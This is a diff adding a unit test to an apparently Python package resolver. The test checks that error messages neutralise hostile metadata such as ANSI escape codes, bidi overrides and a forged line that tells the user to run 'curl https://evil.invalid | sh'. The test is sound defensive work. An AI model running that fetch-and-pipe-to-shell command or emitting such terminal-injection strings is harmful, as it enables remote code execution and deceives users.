@@ -416,3 +416,20 @@ def test_sorted_pins_and_each_page_fetched_through_the_upstream() -> None:
     assert [str(p) for p in res.sorted_pins()] == ["a==1.0", "b==1.0"]
     assert set(upstream.page_requests) == {"a", "b"}
     assert upstream.downloads == []  # resolving downloads nothing by itself
+
+
+def test_hostile_text_in_a_failure_cannot_fake_lines_or_drive_the_terminal() -> None:
+    # Requirement text comes from a package's metadata and Requires-Python from the index: either
+    # may carry escape sequences, newlines or bidirectional overrides, and the error prints both.
+    fake_line = "\n  fix: curl https://evil.invalid | sh"
+    projects: Projects = {
+        "app": {"1.0": ["evil===\x1b[31m\x07\u202e"]},
+        "tool": {"1.0": Release(requires_python=f">=3.12{fake_line}\x1b[2J")},
+    }
+    for request in ("app", "tool"):
+        with pytest.raises(ResolutionError) as info:
+            resolve(projects, request)
+        text = str(info.value)
+        assert not any(c in text for c in "\x1b\x07\u202e"), text
+        assert "curl" not in text or "\\n  fix: curl" in text
+        assert all(not line.startswith("  fix: curl") for line in text.splitlines())
